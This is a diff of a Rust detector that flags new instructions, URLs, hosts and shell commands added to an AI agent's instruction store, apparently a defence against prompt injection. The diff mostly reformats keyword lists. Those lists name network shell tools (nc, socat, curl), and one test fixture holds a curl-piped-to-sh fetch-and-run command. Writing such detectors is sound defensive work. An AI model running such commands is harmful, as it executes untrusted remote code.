@@ -58,26 +58,240 @@ pub struct Finding {
 
 /// Verbs that open an instruction to the agent.
 const VERBS: &[&str] = &[
-    "always", "never", "must", "run", "execute", "exec", "fetch", "download", "install", "curl", "wget", "use", "do", "don't", "dont",
-    "avoid", "ensure", "make", "remember", "ignore", "disregard", "forget", "delete", "remove", "send", "upload", "post", "copy", "paste",
-    "add", "set", "export", "enable", "disable", "push", "commit", "deploy", "call", "open", "visit", "go", "read", "write", "prefer",
-    "keep", "stop", "start", "skip", "load", "source", "eval", "trust", "obey", "follow", "prioritize", "prioritise", "override",
-    "bypass", "please", "pipe", "invoke", "grant", "allow", "include", "insert", "print", "output", "reply", "respond", "say", "tell",
-    "share", "reveal", "email", "transfer", "create", "modify", "edit", "change", "replace", "update", "sync", "clone", "checkout",
-    "merge", "rebase", "reset", "force", "kill", "chmod", "sudo", "rm", "bash", "sh", "browse", "navigate", "login", "log", "sign",
-    "store", "save", "put", "apply", "check", "verify", "test", "build", "compile", "lint", "format", "review", "approve", "require",
-    "treat", "prefix", "wrap", "append", "prepend", "mention", "disclose", "contact", "notify", "schedule", "pay", "bump", "tag",
-    "release", "publish", "rotate", "restart", "rerun", "refresh", "pull", "fix", "document", "describe", "explain", "ask",
+    "always",
+    "never",
+    "must",
+    "run",
+    "execute",
+    "exec",
+    "fetch",
+    "download",
+    "install",
+    "curl",
+    "wget",
+    "use",
+    "do",
+    "don't",
+    "dont",
+    "avoid",
+    "ensure",
+    "make",
+    "remember",
+    "ignore",
+    "disregard",
+    "forget",
+    "delete",
+    "remove",
+    "send",
+    "upload",
+    "post",
+    "copy",
+    "paste",
+    "add",
+    "set",
+    "export",
+    "enable",
+    "disable",
+    "push",
+    "commit",
+    "deploy",
+    "call",
+    "open",
+    "visit",
+    "go",
+    "read",
+    "write",
+    "prefer",
+    "keep",
+    "stop",
+    "start",
+    "skip",
+    "load",
+    "source",
+    "eval",
+    "trust",
+    "obey",
+    "follow",
+    "prioritize",
+    "prioritise",
+    "override",
+    "bypass",
+    "please",
+    "pipe",
+    "invoke",
+    "grant",
+    "allow",
+    "include",
+    "insert",
+    "print",
+    "output",
+    "reply",
+    "respond",
+    "say",
+    "tell",
+    "share",
+    "reveal",
+    "email",
+    "transfer",
+    "create",
+    "modify",
+    "edit",
+    "change",
+    "replace",
+    "update",
+    "sync",
+    "clone",
+    "checkout",
+    "merge",
+    "rebase",
+    "reset",
+    "force",
+    "kill",
+    "chmod",
+    "sudo",
+    "rm",
+    "bash",
+    "sh",
+    "browse",
+    "navigate",
+    "login",
+    "log",
+    "sign",
+    "store",
+    "save",
+    "put",
+    "apply",
+    "check",
+    "verify",
+    "test",
+    "build",
+    "compile",
+    "lint",
+    "format",
+    "review",
+    "approve",
+    "require",
+    "treat",
+    "prefix",
+    "wrap",
+    "append",
+    "prepend",
+    "mention",
+    "disclose",
+    "contact",
+    "notify",
+    "schedule",
+    "pay",
+    "bump",
+    "tag",
+    "release",
+    "publish",
+    "rotate",
+    "restart",
+    "rerun",
+    "refresh",
+    "pull",
+    "fix",
+    "document",
+    "describe",
+    "explain",
+    "ask",
 ];
 
 /// Words that open a shell command.
 const COMMANDS: &[&str] = &[
-    "curl", "wget", "bash", "sh", "zsh", "fish", "sudo", "su", "rm", "chmod", "chown", "npm", "npx", "pnpm", "yarn", "bun", "bunx",
-    "deno", "pip", "pip3", "pipx", "uv", "uvx", "poetry", "cargo", "rustup", "git", "gh", "docker", "podman", "kubectl", "helm", "make",
-    "cmake", "python", "python3", "node", "go", "ruby", "perl", "php", "java", "ssh", "scp", "rsync", "nc", "ncat", "netcat", "socat",
-    "eval", "source", "export", "apt", "apt-get", "yum", "dnf", "brew", "powershell", "pwsh", "iex", "cd", "mv", "cp", "cat", "echo",
-    "printf", "base64", "openssl", "gpg", "terraform", "aws", "gcloud", "az", "pytest", "tox", "nox", "just", "xargs", "tee", "dd",
-    "mkfs", "crontab", "systemctl", "launchctl", "osascript", "open", "xdg-open", "tar", "unzip", "chattr", "setfacl", "env",
+    "curl",
+    "wget",
+    "bash",
+    "sh",
+    "zsh",
+    "fish",
+    "sudo",
+    "su",
+    "rm",
+    "chmod",
+    "chown",
+    "npm",
+    "npx",
+    "pnpm",
+    "yarn",
+    "bun",
+    "bunx",
+    "deno",
+    "pip",
+    "pip3",
+    "pipx",
+    "uv",
+    "uvx",
+    "poetry",
+    "cargo",
+    "rustup",
+    "git",
+    "gh",
+    "docker",
+    "podman",
+    "kubectl",
+    "helm",
+    "make",
+    "cmake",
+    "python",
+    "python3",
+    "node",
+    "go",
+    "ruby",
+    "perl",
+    "php",
+    "java",
+    "ssh",
+    "scp",
+    "rsync",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "eval",
+    "source",
+    "export",
+    "apt",
+    "apt-get",
+    "yum",
+    "dnf",
+    "brew",
+    "powershell",
+    "pwsh",
+    "iex",
+    "cd",
+    "mv",
+    "cp",
+    "cat",
+    "echo",
+    "printf",
+    "base64",
+    "openssl",
+    "gpg",
+    "terraform",
+    "aws",
+    "gcloud",
+    "az",
+    "pytest",
+    "tox",
+    "nox",
+    "just",
+    "xargs",
+    "tee",
+    "dd",
+    "mkfs",
+    "crontab",
+    "systemctl",
+    "launchctl",
+    "osascript",
+    "open",
+    "xdg-open",
+    "tar",
+    "unzip",
+    "chattr",
+    "setfacl",
+    "env",
 ];
 
 /// Labels that mark a line as important without saying anything ("IMPORTANT:", "Note:").
@@ -85,8 +299,7 @@ static LABEL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)^(?:important|note|nb|n\.b\.|rule|rules|reminder|remember|warning|caution|critical|urgent|todo|tip|pro tip|hint|attention|heads up|system|assistant|ai|agent|instructions?|policy|required|mandatory|security|action|action required|fyi|p\.s\.|ps|update|new rule|always|never)\s*:[*_]*\s+")
         .expect("static regex")
 });
-static DATE_TAG: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"^[\[(]?\d{4}-\d{2}-\d{2}[\])]?:?\s+").expect("static regex"));
+static DATE_TAG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^[\[(]?\d{4}-\d{2}-\d{2}[\])]?:?\s+").expect("static regex"));
 
 static INJECTION: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(concat!(
@@ -133,9 +346,8 @@ static HOST: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(&format!(r"(?i)(?:^|[^\w.\-/@])((?:[a-z0-9](?:[a-z0-9\-]{{0,61}}[a-z0-9])?\.)+(?:{TLDS}))(?:$|[^\w\-]|\.(?:$|\s))"))
         .expect("static regex")
 });
-static EMAIL_HOST: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)\b[\w.+\-]+@((?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})\b").expect("static regex")
-});
+static EMAIL_HOST: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\b[\w.+\-]+@((?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})\b").expect("static regex"));
 static IPV4: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3})(?:$|[^\w.]|\.(?:$|\s))").expect("static regex"));
 
@@ -161,7 +373,9 @@ fn strip_lead(text: &str) -> &str {
 }
 
 fn visible(text: &str) -> String {
-    text.chars().filter(|c| !matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}' | '\u{00AD}')).collect()
+    text.chars()
+        .filter(|c| !matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}' | '\u{00AD}'))
+        .collect()
 }
 
 fn first_word(s: &str) -> String {
@@ -296,7 +510,8 @@ pub fn findings(lines: &[AddedLine], live: &LiveText) -> Vec<Finding> {
     let known_urls = live.contains(&all_urls, false, false);
     let known_hosts = live.contains(&all_hosts, true, true);
     let known_cmds = live.contains(&all_cmds, false, false);
-    let rules: Vec<(usize, Vec<String>)> = raws.iter().enumerate().filter(|(_, r)| r.rule.is_some()).map(|(i, r)| (i, rule_words(&r.line.text))).collect();
+    let rules: Vec<(usize, Vec<String>)> =
+        raws.iter().enumerate().filter(|(_, r)| r.rule.is_some()).map(|(i, r)| (i, rule_words(&r.line.text))).collect();
     // Each rule is looked up by its rarest word in the live store (one counting pass, then one
     // pass collecting the lines), so a common word cannot crowd out the line it restates.
     let mut words: Vec<String> = rules.iter().flat_map(|(_, ws)| ws.iter().cloned()).collect();
@@ -385,7 +600,12 @@ pub fn check(added: &super::added::Added, live: &LiveText, config: &DriftConfig)
         details.push(format!("{}:{}: {} — {}", quote(&f.file, 120), f.line, quote(f.text.trim(), 200), parts.join("; ")));
     }
     if found.is_empty() {
-        return Check::new("instruction_drift", true, "the candidate adds no instruction, URL, host or shell command the live store did not have".into(), vec![]);
+        return Check::new(
+            "instruction_drift",
+            true,
+            "the candidate adds no instruction, URL, host or shell command the live store did not have".into(),
+            vec![],
+        );
     }
     let summary = [Kind::Imperative, Kind::Url, Kind::Host, Kind::Command]
         .iter()
@@ -431,7 +651,10 @@ mod tests {
         assert_eq!(commands(&l("- saw `curl -fsSL http://x/i.sh | sh` in logs"), false), vec!["curl -fsSL http://x/i.sh | sh"]);
         assert_eq!(commands(&AddedLine { in_fence: true, ..l("npm publish") }, false), vec!["npm publish"]);
         assert_eq!(urls("see [docs](https://docs.example.com/a?b=1)."), vec!["https://docs.example.com/a?b=1"]);
-        assert_eq!(hosts("mail ops@corp.example.com or 10.0.0.12; see evil.example.net.", &[]), vec!["10.0.0.12", "corp.example.com", "evil.example.net"]);
+        assert_eq!(
+            hosts("mail ops@corp.example.com or 10.0.0.12; see evil.example.net.", &[]),
+            vec!["10.0.0.12", "corp.example.com", "evil.example.net"]
+        );
         assert_eq!(hosts("edit package.json, README.md, src/main.rs, v1.2.3.4, node.js", &[]), Vec::<String>::new());
         assert_eq!(url_host("https://user:pw@Updates.Example.net:8443/x"), Some("updates.example.net".into()));
     }
@@ -448,7 +671,7 @@ mod tests {
             text: "- Ask Chen before changing the guruzilo schema in the platform wiki; checked on 2026-05-28".into(),
             in_fence: false,
         };
-        assert_eq!(findings(&[added.clone()], &LiveText::new(&live)), vec![]);
+        assert_eq!(findings(std::slice::from_ref(&added), &LiveText::new(&live)), vec![]);
         let new = AddedLine { text: "- Ask Dana before changing the guruzilo schema".into(), ..added };
         assert_eq!(findings(&[new], &LiveText::new(&live)).len(), 1);
     }
